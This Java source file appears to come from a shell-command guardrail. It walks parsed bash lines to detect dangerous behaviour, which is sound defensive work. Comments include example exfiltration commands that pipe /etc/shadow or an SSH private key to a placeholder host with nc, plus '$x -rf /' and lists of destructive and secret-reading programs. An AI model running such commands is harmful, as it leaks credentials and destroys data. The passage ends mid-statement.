package io.clituner.guardrails.analysis;

import io.clituner.guardrails.expand.Arg;
import io.clituner.guardrails.expand.BashNames;
import io.clituner.guardrails.expand.Env;
import io.clituner.guardrails.expand.Expander;
import io.clituner.guardrails.expand.Origin;
import io.clituner.guardrails.expand.Sentinels;
import io.clituner.guardrails.expand.Substitutions;
import io.clituner.guardrails.expand.Value;
import io.clituner.guardrails.parse.Ast;
import io.clituner.guardrails.parse.Ast.Command;
import io.clituner.guardrails.parse.Ast.Compound;
import io.clituner.guardrails.parse.Ast.Script;
import io.clituner.guardrails.parse.Ast.Simple;
import io.clituner.guardrails.parse.BashParser;
import io.clituner.guardrails.parse.ParseException;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * Walks a parsed command line in execution order, the way bash would run it: tracks variables,
 * positional parameters, functions and aliases; expands every word; builds an {@link Invocation}
 * for each program started (including those inside substitutions, wrappers, nested code strings
 * and inline interpreter programs) and hands each to the rules. One instance per analysis.
 */
public final class Walker implements Substitutions {
    /** Programs tried when a command name is not known ({@code $x -rf /}, {@code $(echo rm) …}). */
    private static final List<String> CANDIDATES = List.of("rm", "chmod", "chown", "chgrp", "dd", "mkfs", "shred",
            "wipefs", "sh", "bash", "nc", "python", "perl", "kill", "find", "crontab", "history");

    private record Ctx(int depth, int spanStart, int spanEnd, Stdin stdin, List<String> functions, boolean inPipeline,
                       boolean background, int callDepth, int loopDepth, boolean speculative) {
        Ctx withStdin(Stdin s) {
            return new Ctx(depth, spanStart, spanEnd, s, functions, inPipeline, background, callDepth, loopDepth, speculative);
        }

        Ctx stage(Stdin s, boolean pipe, boolean bg) {
            return new Ctx(depth, spanStart, spanEnd, s, functions, pipe, bg, callDepth, loopDepth, speculative);
        }
    }

    private final RuleRunner rules;
    /** Where findings go; swapped only while an unknown program's arguments are tried as a command. */
    private Reporter reporter;
    /** Blocking (DANGEROUS) findings reported so far. */
    private int blocking;
    private final Limits limits;
    private final Expander expander;
    private final Map<Integer, Producers.Output> procSubOutputs = new HashMap<>();
    private Ctx current;
    /** Set while the last network fetch was an HTTPS URL on a well-known code host (see {@link #foreign}). */
    private boolean trustedInstaller;
    /** Files a downloader in this command line writes; running one of them later is running downloaded code. */
    private final java.util.Set<String> downloaded = new java.util.HashSet<>();
    /** Files written with known text in this line (a script that a later command may run). */
    private final Map<String, String> writtenFiles = new HashMap<>();
    /** Program files copied or linked to a new name in this line ({@code cp /bin/rm ./x}). */
    private final Map<String, String> copiedPrograms = new HashMap<>();
    /** Source spans of command substitutions whose commands read secrets ($(cat /etc/shadow)). */
    private final List<int[]> secretSubstitutions = new ArrayList<>();
    /** Files written from secrets in this line, and whether a later command sends them. */
    private final SecretFlow secretFlow = new SecretFlow();
    private int secretReads;
    /** The last invocation that read a secret (a compound that ran it passes it on to the next pipeline stage). */
    private Invocation lastSecretSource;
    /** Process names whose PIDs programs printed so far ({@link PidLookup}), and the $(…) spans that printed them. */
    private final List<String> pidNames = new ArrayList<>();
    private final List<PidSpan> pidSubstitutions = new ArrayList<>();
    /** Variables holding data read from secrets ({@code read l} fed by {@code xxd -p /etc/shadow}, {@code x=$(cat key)}). */
    private final java.util.Set<String> secretVars = new java.util.HashSet<>();

    private record PidSpan(int start, int end, List<String> names) {}
    private static final java.util.Set<String> READERS = java.util.Set.of("cat", "base64", "tar", "head", "tail", "xxd",
            "gzip", "zip", "od", "strings", "less", "more", "tac", "openssl", "gpg", "sed", "awk", "grep", "cut", "bzip2",
            "xz", "7z", "hexdump", "base32", "dd", "cpio");
    private int invocations;
    /** Steps and bytes left to this analysis, shared with the walkers it starts for container commands. */
    private final Budget budget;
    /** IFS given as a prefix assignment to the command being processed ({@code IFS=, read -ra a}), else null. */
    private String readIfs;
    /** While analysing code run by find -exec: the walk's root and the words that stand for its files. */
    private String treeContext;
    private java.util.Set<String> treeItems = java.util.Set.of();
    /** Above zero while analysing code that runs later (start-up files, cron tables, at jobs). */
    private int deferred;

    public Walker(RuleRunner rules, Reporter reporter, Limits limits) {
        this(rules, reporter, limits, new Budget(limits));
    }

    private Walker(RuleRunner rules, Reporter reporter, Limits limits, Budget budget) {
        this.rules = rules;
        this.reporter = (id, start, end, detail) -> {
            if (rules.dangerous(id)) {
                blocking++;
            }
            reporter.report(id, start, end, detail);
        };
        this.limits = limits;
        this.budget = budget;
        this.expander = new Expander(this);
    }

    /** A copy of the variables for a subshell, pipeline stage or nested code, charged to the budget. */
    private Env copyEnv(Env env) {
        budget.bytes(env.size());
        return env.copy();
    }

    private void charge(Value v) {
        long n = 1;
        if (v.isArray()) {
            for (String item : v.array()) {
                n += item.length() + 16; // an element costs about as much as 16 characters to copy and join
            }
        } else {
            n += v.scalar().length();
        }
        budget.bytes(n);
    }

    @Override
    public void charge(int chars) {
        budget.step();
        budget.bytes(chars);
    }

    /** Analyses one command line; never throws for any input. */
    public void analyze(String rawSource) {
        String src = Sentinels.sanitize(rawSource);
        Ctx root = new Ctx(0, -1, -1, Stdin.TERMINAL, List.of(), false, false, 0, 0, false);
        current = root;
        if (src.length() > limits.maxInputChars()) {
            reporter.report(Structural.LIMIT, 0, src.length(), "input longer than " + limits.maxInputChars() + " characters");
            return;
        }
        try {
            analyzeSource(src, new Env(), root, -1, -1);
        } catch (LimitExceeded e) {
            reporter.report(Structural.LIMIT, 0, src.length(), e.getMessage());
        } catch (StackOverflowError e) {
            reporter.report(Structural.LIMIT, 0, src.length(), "nesting too deep to analyse");
        }
    }

    private void analyzeSource(String src, Env env, Ctx ctx, int spanStart, int spanEnd) {
        BashParser parser = new BashParser(src, limits.maxNesting());
        try {
            Script script = parser.parse();
            walkScript(script, env, ctx);
        } catch (ParseException e) {
            int s = spanStart >= 0 ? spanStart : Math.min(e.offset(), src.length());
            int t = spanStart >= 0 ? spanEnd : src.length();
            reporter.report(e.isLimit() ? Structural.LIMIT : Structural.PARSE_ERROR, s, t, e.getMessage());
            // bash -c and scripts run the commands before a syntax error: judge what was parsed
            for (Simple simple : parser.seenCommands()) {
                try {
                    walkCommand(simple, copyEnv(env), ctx);
                } catch (LimitExceeded limit) {
                    throw limit; // out of budget: the verdict must say so
                } catch (RuntimeException ignored) {
                    // a fragment that cannot be analysed alone adds nothing beyond the parse finding
                }
            }
        }
    }

    private int s(Ctx ctx, int start) {
        return ctx.spanStart() >= 0 ? ctx.spanStart() : start;
    }

    private int e(Ctx ctx, int end) {
        return ctx.spanStart() >= 0 ? ctx.spanEnd() : end;
    }

    private void report(Ctx ctx, String id, int start, int end, String detail) {
        reporter.report(id, s(ctx, start), Math.max(s(ctx, start), e(ctx, end)), detail);
    }

    // ------------------------------------------------------------------ structure

    private Producers.Output walkScript(Script script, Env env, Ctx ctx) {
        Producers.Output last = new Producers.Output("", Origin.LITERAL);
        StringBuilder all = new StringBuilder();
        Origin origin = Origin.LITERAL;
        int count = 0;
        for (Ast.Item item : script.items()) {
            for (Ast.Pipeline p : item.pipelines()) {
                last = walkPipeline(p, env, ctx, item.background());
                origin = origin.max(last.origin());
                if (all.length() < (1 << 16)) {
                    all.append(last.content() != null ? last.content() : Sentinels.UNKNOWN + "\n");
                }
                count++;
            }
        }
        // a list's output is its parts' outputs in order; unknown parts stay marked unknown
        return count <= 1 ? last : new Producers.Output(all.toString(), origin.max(Origin.LOCAL));
    }

    private Producers.Output walkPipeline(Ast.Pipeline p, Env env, Ctx ctx, boolean background) {
        List<Command> cmds = p.commands();
        int n = cmds.size();
        Stdin in = ctx.stdin();
        // every stage sees the stages before it as a prefix of one log: no copying, linear in the stages
        Upstream.Log upstream = n > 1 ? Upstream.log(in.upstream()) : null;
        Producers.Output out = new Producers.Output("", Origin.LITERAL);
        for (int i = 0; i < n; i++) {
            Env stageEnv = n > 1 ? copyEnv(env) : env;
            Ctx stageCtx = ctx.stage(in, n > 1 || ctx.inPipeline(), background || (ctx.background() && n == 1));
            Stage st = walkCommand(cmds.get(i), stageEnv, stageCtx);
            out = st.output();
            if (upstream != null && i + 1 < n) {
                upstream.addAll(st.invocations());
                in = new Stdin(out.origin(), out.content(), upstream.view(), true);
            }
        }
        return out;
    }

    private record Stage(List<Invocation> invocations, Producers.Output output) {}

    private static final Stage EMPTY = new Stage(List.of(), new Producers.Output("", Origin.LITERAL));

    private Stage walkCommand(Command c, Env env, Ctx ctx) {
        if (++invocations > limits.maxInvocations()) {
            throw new LimitExceeded("more than " + limits.maxInvocations() + " commands to analyse");
        }
        budget.step();
        if (c instanceof Simple simple) {
            return walkSimple(simple, env, ctx);
        }
        if (c instanceof Ast.FunctionDef f) {
            env.defineFunction(f.name(), f.body());
            Env fenv = copyEnv(env);
            fenv.setPositional(null, Origin.UNSET);
            List<String> stack = new ArrayList<>(ctx.functions());
            stack.add(f.name());
            Ctx fctx = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), Stdin.TERMINAL, stack, false, false,
                    ctx.callDepth() + 1, ctx.loopDepth(), ctx.speculative());
            walkCommand(f.body(), fenv, fctx);
            return EMPTY;
        }
        Compound k = (Compound) c;
        int readsBefore = secretReads;
        Producers.Output out = new Producers.Output(null, ctx.stdin().origin().max(Origin.LOCAL));
        List<Redir> redirs = expandRedirects(k.redirects(), env, ctx);
        Stdin stdin = stdinFor(redirs, k.redirects(), env, ctx);
        Ctx inner = ctx.withStdin(stdin);
        switch (k.kind()) {
            case SUBSHELL -> out = walkScript(k.parts().get(0), copyEnv(env), inner);
            case GROUP -> out = walkScript(k.parts().get(0), env, inner);
            case UNTIL -> {
                if (neverTrue(k.parts().get(0)) && spawnsInBackground(k.parts().get(1))) {
                    report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
                }
                for (Script s : k.parts()) {
                    walkScript(s, env, inner);
                }
            }
            case IF, CASE -> {
                for (Ast.Word w : k.words()) {
                    current = ctx;
                    expander.expand(w, env);
                }
                for (Script s : k.parts()) {
                    walkScript(s, env, inner);
                }
            }
            case WHILE -> {
                if (infiniteCondition(k.parts().get(0)) && spawnsInBackground(k.parts().get(1))) {
                    report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
                }
                for (Script s : k.parts()) {
                    walkScript(s, env, inner);
                }
            }
            case FOR, SELECT -> walkFor(k, env, inner);
            case ARITH_FOR -> {
                current = ctx;
                expander.expandString(k.words().get(0), env);
                String header = k.words().get(0).literal();
                if (header != null && header.replace(" ", "").equals(";;") && spawnsInBackground(k.parts().get(0))) {
                    report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
                }
                walkScript(k.parts().get(0), env, inner);
            }
            case COND, ARITH -> {
                current = ctx;
                for (Ast.Word w : k.words()) {
                    expander.expand(w, env);
                }
            }
            // the coprocess's output stays readable by the rest of the line (read <&"${COPROC[0]}"): judge it as flowing on
            case COPROC -> out = walkScript(k.parts().get(0), copyEnv(env), inner.stage(stdin, true, true));
            default -> {
            }
        }
        if (!redirs.isEmpty()) {
            Invocation pseudo = new Invocation(List.of(), redirs, stdin, s(ctx, k.start()), e(ctx, k.end()),
                    ctx.speculative(), null, ctx.depth());
            rules.evaluate(pseudo, reporter);
        }
        // a loop fed by "< FILE" passes what it read on ("while read l; do echo $l; done < /etc/shadow | nc h 9"), and
        // a group that read a secret passes that reader on ("{ cat ~/.ssh/id_rsa; } | nc h 9")
        List<Invocation> passed = stdin != ctx.stdin() ? stdin.upstream() : List.of();
        if (secretReads > readsBefore && lastSecretSource != null) {
            passed = new ArrayList<>(passed);
            passed.add(lastSecretSource);
        }
        return new Stage(passed, out);
    }

    private static boolean infiniteCondition(Script cond) {
        if (cond.items().size() != 1 || cond.items().get(0).pipelines().size() != 1) {
            return false;
        }
        List<Command> cmds = cond.items().get(0).pipelines().get(0).commands();
        if (cmds.size() != 1) {
            return false;
        }
        if (cmds.get(0) instanceof Compound k && k.kind() == Ast.Kind.ARITH) {
            String lit = k.words().get(0).literal();
            return lit != null && lit.trim().matches("[1-9][0-9]*");
        }
        if (!(cmds.get(0) instanceof Simple s) || s.words().isEmpty()) {
            return false;
        }
        String name = s.words().get(0).literal();
        return "true".equals(name) || ":".equals(name) || ("[".equals(name) && s.words().size() == 3);
    }

    /** An until-condition that never succeeds ({@code until false}). */
    private static boolean neverTrue(Script cond) {
        if (cond.items().size() != 1 || cond.items().get(0).pipelines().size() != 1) {
            return false;
        }
        List<Command> cmds = cond.items().get(0).pipelines().get(0).commands();
        return cmds.size() == 1 && cmds.get(0) instanceof Simple s && s.words().size() == 1
                && "false".equals(s.words().get(0).literal());
    }

    private static boolean spawnsInBackground(Script body) {
        boolean bg = false;
        for (Ast.Item item : body.items()) {
            bg |= item.background();
            if (item.background()) {
                continue; // "sleep 1 &" limits nothing: only a foreground sleep, wait or read paces the loop
            }
            for (Ast.Pipeline p : item.pipelines()) {
                for (Command c : p.commands()) {
                    if (c instanceof Simple s && !s.words().isEmpty()) {
                        String n = s.words().get(0).literal();
                        if ("sleep".equals(n) || "wait".equals(n) || "read".equals(n)) {
                            return false;
                        }
                    }
                }
            }
        }
        return bg;
    }

    private void walkFor(Compound k, Env env, Ctx ctx) {
        current = ctx;
        List<String> values = new ArrayList<>();
        Origin origin = Origin.LITERAL;
        boolean known = true;
        if (k.words() == null) {
            List<String> pos = env.positional();
            if (pos == null) {
                known = false;
                origin = Origin.UNSET;
            } else {
                values.addAll(pos);
            }
        } else {
            for (Ast.Word w : k.words()) {
                for (Arg a : expander.expand(w, env)) {
                    values.add(a.text());
                    origin = origin.max(a.origin());
                    known &= a.resolved();
                }
            }
        }
        Script body = k.parts().get(0);
        Ctx inner = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), ctx.stdin(), ctx.functions(), ctx.inPipeline(),
                ctx.background(), ctx.callDepth(), ctx.loopDepth() + 1, ctx.speculative());
        if (known && ctx.loopDepth() == 0 && !values.isEmpty() && values.size() <= 8) {
            for (String v : values) {
                env.set(k.name(), Value.of(v, origin));
                walkScript(body, env, inner);
            }
            return;
        }
        if (!values.isEmpty() && values.size() <= 64) {
            // the loop variable takes one of these values: keep one that matters most (the first unknown-free one)
            env.set(k.name(), Value.of(values.get(0), origin));
            walkScript(body, env, inner);
            env.set(k.name(), Value.unknown(origin.max(Origin.LOCAL)));
        } else {
            env.set(k.name(), Value.unknown(origin.max(Origin.LOCAL)));
        }
        walkScript(body, env, inner);
    }

    // ------------------------------------------------------------------ simple commands

    private Stage walkSimple(Simple simple, Env env, Ctx ctx) {
        current = ctx;
        for (Ast.Assignment a : simple.assignments()) {
            int readsBefore = secretReads;
            Value v = assignmentValue(a, env);
            taint(a.name(), secretReads > readsBefore || a.value() != null && readsSecretVar(a.value()));
            if (simple.words().isEmpty() && a.name().indexOf('[') > 0) {
                setElement(env, a.name(), v);
                continue;
            }
            if (simple.words().isEmpty()) {
                if (v.isArray()) {
                    v = keyedElements(env, a.name(), v, a.append());
                }
                if (a.append() && !v.isArray()) {
                    Value old = env.get(a.name());
                    String prev = old == Value.UNKNOWN_UNSET ? "" : String.valueOf(old.first());
                    v = Value.of(prev + v.scalar(), old.origin().max(v.origin()));
                }
                charge(v); // a+=(x) and a+=x copy the old value: repeated, they would cost the square of the line
                env.set(a.name(), v);
            }
            specialVariable(a.name(), v, a.start(), a.end(), env, ctx);
            functionValue(a.name(), v, a.start(), a.end(), env, ctx);
            if ((a.name().equals("LD_PRELOAD") || a.name().equals("LD_AUDIT")) && !v.isArray()) {
                String lib = v.scalar();
                if (isDownloaded(lib)) {
                    report(ctx, Structural.DOWNLOAD_EXEC, a.start(), a.end(), "preloads a library downloaded earlier");
                } else if (deferred > 0 && lib.startsWith("/")
                        && Paths.place(Arg.literal(lib, a.start(), a.end())) == Paths.Place.TEMP) {
                    report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later preloads " + lib);
                }
            }
            if (deferred > 0 && a.name().equals("PATH") && !v.isArray() && scratchFirstInPath(v.scalar())) {
                report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later looks programs up in " + v.scalar());
            }
        }
        List<Arg> argv = new ArrayList<>();
        for (Ast.Word w : simple.words()) {
            current = ctx;
            argv.addAll(expander.expand(w, env));
            if (!secretVars.isEmpty() && readsSecretVar(w)) {
                secretSubstitutions.add(new int[] {w.start(), w.end()}); // judged like $(cat /etc/shadow) in place
            }
        }
        relativeToWorkingDirectory(argv, env);
        List<Redir> redirs = expandRedirects(simple.redirects(), env, ctx);
        Stdin stdin = stdinFor(redirs, simple.redirects(), env, ctx);
        String tree = treeContext != null && argv.stream().anyMatch(a -> treeItems.contains(a.text())) ? treeContext : null;
        Invocation inv = new Invocation(argv, redirs, stdin, s(ctx, simple.start()), e(ctx, simple.end()),
                ctx.speculative(), tree, ctx.depth());
        if (argv.isEmpty()) {
            if (!redirs.isEmpty()) {
                rules.evaluate(inv, reporter);
            }
            return new Stage(List.of(inv), new Producers.Output("", Origin.LITERAL));
        }
        String savedIfs = readIfs;
        readIfs = null;
        for (Ast.Assignment a : simple.assignments()) {
            if (a.name().equals("IFS") && a.value() != null) {
                readIfs = expander.expandString(a.value(), env).text();
            }
        }
        try {
            return process(inv, env, ctx, true);
        } finally {
            readIfs = savedIfs;
        }
    }

    /**
     * After {@code cd /etc}, "./*" means "/etc/*": operands are made absolute while the working directory is
     * known, so rules judge the paths that are really touched.
     */
    private static void relativeToWorkingDirectory(List<Arg> argv, Env env) {
        if (argv.size() < 2) {
            return;
        }
        String first = argv.get(0).text();
        if (first.equals("cd") || first.equals("pushd")) {
            Arg target = argv.get(argv.size() - 1);
            String t = target.text();
            String cwd = env.get("PWD").scalar();
            if (target.resolved() && t.startsWith("/")) {
                env.set("PWD", Value.of(Paths.normalize(t), Origin.LITERAL));
            } else if (target.resolved() && cwd != null && cwd.startsWith("/") && !t.startsWith("-")) {
                env.set("PWD", Value.of(Paths.normalize(cwd + "/" + t), Origin.LITERAL));
            } else {
                env.set("PWD", Value.of(".", Origin.LITERAL));
            }
            return;
        }
        String cwd = env.get("PWD").scalar();
        if (cwd == null || !cwd.startsWith("/")) {
            return;
        }
        for (int i = 1; i < argv.size(); i++) {
            Arg a = argv.get(i);
            String t = a.text();
            if (t.isEmpty() || t.startsWith("/") || t.startsWith("-") || t.contains("=") || t.contains("://")
                    || a.hasUnknown()) {
                continue;
            }
            argv.set(i, a.withText(cwd.equals("/") ? "/" + t : cwd + "/" + t));
        }
    }

    /**
     * An array value as assigned: {@code ([2]=x [k]=y)} places elements by index and stores associative keys as
     * {@code name[key]} (read back by the expander); {@code a+=(x)} appends to the old elements.
     */
    private static Value keyedElements(Env env, String name, Value v, boolean append) {
        List<String> items = new ArrayList<>();
        if (append) {
            Value old = env.get(name);
            if (old.isArray()) {
                items.addAll(old.array());
            } else if (old != Value.UNKNOWN_UNSET) {
                items.add(old.scalar());
            }
        }
        for (String item : v.array()) {
            boolean keyed = !item.isEmpty() && (item.charAt(0) == '[' || item.charAt(0) == Sentinels.LBRACKET);
            int close = keyed ? item.indexOf("]=") : -1;
            if (close < 0) {
                items.add(item);
                continue;
            }
            String key = item.substring(1, close);
            String val = item.substring(close + 2);
            int idx = key.length() < 5 && !key.isEmpty() && key.chars().allMatch(Character::isDigit) ? Integer.parseInt(key) : -1;
            if (idx < 0) {
                env.set(name + "[" + key + "]", Value.of(val, v.origin()));
                continue;
            }
            while (items.size() <= idx) {
                items.add("");
            }
            items.set(idx, val);
        }
        return Value.array(items, v.origin());
    }

    /** a[3]=x: updates one element (unknown index: the whole array becomes unknown). */
    private static void setElement(Env env, String target, Value v) {
        String name = target.substring(0, target.indexOf('['));
        String idx = target.substring(target.indexOf('[') + 1, target.length() - 1);
        Value old = env.get(name);
        List<String> items = new ArrayList<>();
        if (old.isArray()) {
            items.addAll(old.array());
        } else if (old != Value.UNKNOWN_UNSET) {
            items.add(old.scalar());
        }
        try {
            int i = Integer.parseInt(idx.trim());
            while (items.size() <= i && items.size() < 1024) {
                items.add("");
            }
            if (i < items.size()) {
                items.set(i, v.first());
            }
            env.set(name, Value.array(items, old.origin().max(v.origin())));
        } catch (NumberFormatException e) {
            if (BashNames.isName(idx)) {
                // m[key]=v: an associative element (or an index held in a variable), read back under the same key
                env.set(name + "[" + idx + "]", Value.of(v.first(), v.origin()));
            } else {
                env.set(name, Value.unknown(v.origin().max(Origin.UNSET)));
            }
        }
    }

    private Value assignmentValue(Ast.Assignment a, Env env) {
        if (a.array() != null) {
            List<String> items = new ArrayList<>();
            Origin o = Origin.LITERAL;
            for (Ast.Word w : a.array()) {
                for (Arg x : expander.expand(w, env)) {
                    items.add(x.text());
                    o = o.max(x.origin());
                }
            }
            return Value.array(items, o);
        }
        Arg v = expander.expandString(a.value(), env);
        return Value.of(v.text(), v.origin());
    }

    private void specialVariable(String name, Value v, int start, int end, Env env, Ctx ctx) {
        String val = v.isArray() ? String.join(" ", v.array()) : v.scalar();
        switch (name) {
            case "HISTFILE" -> {
                if (val.isEmpty() || val.equals("/dev/null")) {
                    report(ctx, Structural.HISTORY_VARS, start, end, "shell history disabled (" + name + ")");
                }
            }
            case "HISTSIZE", "HISTFILESIZE", "SAVEHIST" -> {
                if (val.equals("0") || val.isEmpty()) {
                    report(ctx, Structural.HISTORY_VARS, start, end, "shell history disabled (" + name + ")");
                }
            }
            case "PROMPT_COMMAND" -> {
                report(ctx, Structural.PROMPT_COMMAND, start, end, "code run before every prompt");
                analyzeCode(val, v.origin(), start, end, null, env, ctx, "PROMPT_COMMAND");
            }
            default -> {
            }
        }
    }

    private List<Redir> expandRedirects(List<Ast.Redirect> redirects, Env env, Ctx ctx) {
        if (redirects.isEmpty()) {
            return List.of();
        }
        List<Redir> out = new ArrayList<>(redirects.size());
        for (Ast.Redirect r : redirects) {
            current = ctx;
            Arg target;
            if (r.op().startsWith("<<")) {
                target = expander.expandString(r.target(), env);
            } else {
                List<Arg> fields = expander.expand(r.target(), env);
                target = fields.isEmpty() ? Arg.literal("", r.target().start(), r.target().end()) : fields.get(0);
            }
            out.add(new Redir(r.fd(), r.op(), target, s(ctx, r.start()), e(ctx, r.end())));
        }
        return out;
    }

    private Stdin stdinFor(List<Redir> redirs, List<Ast.Redirect> raw, Env env, Ctx ctx) {
        Stdin stdin = ctx.stdin();
        for (int i = 0; i < redirs.size(); i++) {
            Redir r = redirs.get(i);
            if (r.fd() != 0) {
                continue;
            }
            Arg t = r.target();
            switch (r.op()) {
                case "<<<" -> stdin = new Stdin(t.origin(), t.resolved() ? t.text() + "\n" : null, List.of(), true);
                case "<<", "<<-" -> stdin = new Stdin(t.origin(), t.resolved() ? t.text() : null, List.of(), true);
                case "<", "<>" -> {
                    if (t.procSub() != null) {
                        Producers.Output o = procSubOutputs.get(raw.get(i).target().start());
                        stdin = new Stdin(t.procSub(), o == null ? null : o.content(), List.of(), true);
                    } else if (t.startsWith("/dev/tcp/") || t.startsWith("/dev/udp/")) {
                        stdin = new Stdin(Origin.NETWORK, null, List.of(), true);
                    } else if (t.resolved() && Paths.isSecret(t)) {
                        // "… < /etc/shadow" feeds the secret on as "cat /etc/shadow | …" would
                        Invocation reader = new Invocation(List.of(Arg.literal("cat", t.start(), t.end()), t), List.of(),
                                Stdin.TERMINAL, t.start(), t.end(), ctx.speculative(), null, ctx.depth());
                        stdin = new Stdin(Origin.LOCAL, null, List.of(reader), true);
                    } else if (!t.is("/dev/null")) {
                        stdin = new Stdin(Origin.LOCAL, null, List.of(), true);
                    }
                }
                default -> {
                }
            }
        }
        return stdin;
    }

    /**
     * Judges an invocation and everything it runs in turn.
     *
     * @param top true for a command as written (function and alias lookup apply)
     */
    private Stage process(Invocation inv, Env env, Ctx ctx, boolean top) {
        if (++invocations > limits.maxInvocations()) {
            throw new LimitExceeded("more than " + limits.maxInvocations() + " commands to analyse");
        }
        budget.step();
        List<Invocation> produced = new ArrayList<>();
        produced.add(inv);
        String name = inv.name();
        if (top && !name.isEmpty()) {
            Command fn = env.function(name);
            if (fn != null) {
                if (ctx.functions().contains(name)) {
                    if (ctx.inPipeline() || ctx.background()) {
                        report(ctx, Structural.FORK_BOMB, inv.start(), inv.end(),
                                "function '" + name + "' spawns itself in a pipeline or background");
                    }
                    return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
                }
                if (ctx.callDepth() < 6) {
                    Env fenv = copyEnv(env);
                    List<String> args = new ArrayList<>();
                    Origin o = Origin.LITERAL;
                    for (Arg a : inv.args()) {
                        args.add(a.text());
                        o = o.max(a.origin());
                    }
                    fenv.setPositional(args, o);
                    List<String> stack = new ArrayList<>(ctx.functions());
                    stack.add(name);
                    walkCommand(fn, fenv, new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), inv.stdin(), stack,
                            ctx.inPipeline(), ctx.background(), ctx.callDepth() + 1, ctx.loopDepth(), ctx.speculative()));
                }
                return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
            }
            String alias = env.alias(name);
            if (alias != null && ctx.depth() < limits.maxCodeDepth()) {
                StringBuilder code = new StringBuilder(alias);
                for (Arg a : inv.args()) {
                    code.append(' ').append(quote(a.text()));
                }
                analyzeCode(code.toString(), Origin.LITERAL, inv.start(), inv.end(), null, env, ctx, "alias " + name);
                return new Stage(produced, new Producers.Output(null, Origin.LOCAL));
            }
        }
        rules.evaluate(inv, reporter);
        pidNames.addAll(PidLookup.names(inv));
        if (name.equals("kill")) {
            killByName(inv, pidsFromSubstitutions(inv));
        }
        if (!inv.argv().isEmpty() && !inv.speculative()) {
            Arg a0 = inv.arg(0);
            if (a0.origin() == Origin.NETWORK || a0.origin() == Origin.DECODED && !Nesting.opaque(a0.text())) {
                report(ctx, Structural.HOSTILE_COMMAND, a0.start(), a0.end(),
                        "command name comes from " + a0.origin().name().toLowerCase() + " data");
            }
        }
        if (Programs.NETWORK.contains(name)) {
            trustedInstaller = trustedUrl(inv);
            recordDownload(inv);
        }
        Producers.Output o = null; // computed once: a command may have thousands of redirections
        for (Redir r : inv.redirects()) {
            if (r.writes() && r.target().resolved()) {
                o = o == null ? Producers.output(inv) : o;
                String f = r.target().text();
                if (Programs.NETWORK.contains(name) || o.origin().hostile()) {
                    downloaded.add(f.startsWith("./") ? f.substring(2) : f);
                } else if (o.content() != null && (name.equals("echo") || name.equals("printf"))) {
                    writtenFiles.put(f.startsWith("./") ? f.substring(2) : f, o.content());
                }
            }
        }
        if ((name.equals("cp") || name.equals("ln") || name.equals("install") || name.equals("mv"))
                && inv.operands().size() == 2 && inv.operands().get(0).resolved() && inv.operands().get(1).resolved()) {
            String dst = inv.operands().get(1).text();
            copiedPrograms.put(dst.startsWith("./") ? dst.substring(2) : dst, inv.operands().get(0).text());
        }
        if (top && !inv.argv().isEmpty() && !copiedPrograms.isEmpty()) {
            String a0 = inv.arg(0).text();
            String original = copiedPrograms.get(a0.startsWith("./") ? a0.substring(2) : a0);
            if (original != null && ctx.depth() < limits.maxCodeDepth()) {
                List<Arg> argv = new ArrayList<>(inv.argv());
                argv.set(0, inv.arg(0).withText(original));
                process(inv.withArgv(argv), env, ctx, false);
            }
        }
        persistedCode(inv, env, ctx);
        containerExec(inv, ctx);
        if (name.equals("env") || name.equals("sudo")) {
            for (Arg a : inv.args()) {
                int eq = a.text().indexOf('=');
                if (eq > 0 && BashNames.isName(a.text().substring(0, eq))) {
                    functionValue(a.text().substring(0, eq), Value.of(a.text().substring(eq + 1), a.origin()),
                            a.start(), a.end(), env, ctx);
                }
            }
        }
        if (Programs.dumpsSecrets(inv)) {
            secretReads++;
            lastSecretSource = inv;
        }
        if (deferred > 0) {
            scratchProgram(inv, ctx);
        }
        if (EXECUTES_OPERAND.contains(name)) {
            for (Arg a : inv.operands()) {
                if (a.resolved() && isDownloaded(a.text())) {
                    report(ctx, Structural.DOWNLOAD_EXEC, a.start(), a.end(), name + " loads a file downloaded earlier");
                }
            }
        }
        sameFileAs(inv);
        if (READERS.contains(name)) {
            for (Arg a : inv.operands()) {
                if (Paths.isSecret(a)) {
                    secretReads++;
                    lastSecretSource = inv;
                    break;
                }
            }
        }
        if (!secretSubstitutions.isEmpty() && (Programs.NETWORK.contains(name) || Programs.RAW_SOCKET.contains(name)
                || Programs.NAME_LOOKUP.contains(name))) {
            for (Arg a : inv.args()) {
                for (int[] span : secretSubstitutions) {
                    if (span[0] >= a.start() && span[1] <= a.end()) {
                        report(ctx, "exfil.upload-secret", a.start(), a.end(), "a secret read by $(…) is sent over the network");
                    }
                }
            }
        }
        for (Arg sent : secretFlow.sentSecrets(inv)) {
            report(ctx, "exfil.upload-secret", inv.start(), inv.end(),
                    sent.display() + " was written from secrets earlier in the line and is sent over the network");
        }
        secretFlow.record(inv);
        if (top && !inv.argv().isEmpty() && !writtenFiles.isEmpty()) {
            String a0 = inv.arg(0).text();
            String script = writtenFiles.get(a0.startsWith("./") ? a0.substring(2) : a0);
            if (script != null) {
                analyzeCode(script, Origin.LITERAL, inv.start(), inv.end(), null, env, ctx, "script " + a0);
            }
        }
        if (!inv.argv().isEmpty() && isDownloaded(inv.arg(0).text())) {
            report(ctx, Structural.DOWNLOAD_EXEC, inv.start(), inv.end(), "runs a file downloaded earlier in the command");
        }
        if (name.isEmpty() && !inv.argv().isEmpty()) {
            dynamicName(inv, env, ctx);
        }
        builtin(inv, env, ctx);
        List<Nested> nestedCode = Nesting.of(inv);
        int blockingBefore = blocking;
        Invocation last = inv;
        for (Nested n : nestedCode) {
            if (n instanceof Nested.Argv a) {
                if (ctx.depth() >= limits.maxCodeDepth() * 2) {
                    throw new LimitExceeded("wrappers nested too deep");
                }
                Ctx deeper = new Ctx(ctx.depth() + 1, ctx.spanStart(), ctx.spanEnd(), ctx.stdin(), ctx.functions(),
